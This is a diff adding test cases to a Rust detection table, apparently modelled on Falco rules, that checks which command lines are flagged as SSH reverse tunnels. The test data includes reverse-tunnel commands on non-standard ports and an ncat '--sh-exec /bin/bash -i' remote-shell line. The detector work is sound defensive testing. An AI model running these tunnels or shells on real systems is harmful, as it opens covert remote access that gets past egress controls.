@@ -255,6 +255,37 @@ fn exec_table() -> Vec<Case> {
             vec!["tool-netcat-exec"],
         ),
         user(vec!["nc", "-lvp", "4444"], vec![]),
+        // Falco's "Disallowed SSH Connection Non Standard Port": a reverse tunnel over SSH on
+        // a port egress filters let out.
+        user(
+            vec!["ssh", "-N", "-R", "2222:127.0.0.1:22", "-p", "443", "u@h"],
+            vec!["tool-ssh-reverse-tunnel"],
+        ),
+        user(
+            vec!["ssh", "-p4444", "-fNR", "9999:localhost:22", "u@h"],
+            vec!["tool-ssh-reverse-tunnel"],
+        ),
+        user(
+            vec![
+                "autossh",
+                "-M",
+                "0",
+                "-oRemoteForward=2222 localhost:22",
+                "-o",
+                "Port=8443",
+                "u@h",
+            ],
+            vec!["tool-ssh-reverse-tunnel"],
+        ),
+        user(
+            vec!["ssh", "-R", "8080:localhost:3000", "dev@bastion"],
+            vec![],
+        ),
+        user(vec!["ssh", "-p", "443", "git@ssh.github.com"], vec![]),
+        user(
+            vec!["ssh", "-L", "8443:127.0.0.1:443", "-p", "2222", "u@h"],
+            vec![],
+        ),
         // ncat's long options (Falco's "Netcat Remote Code Execution in Container").
         user(
             vec!["ncat", "h", "4444", "--sh-exec", "/bin/bash -i"],
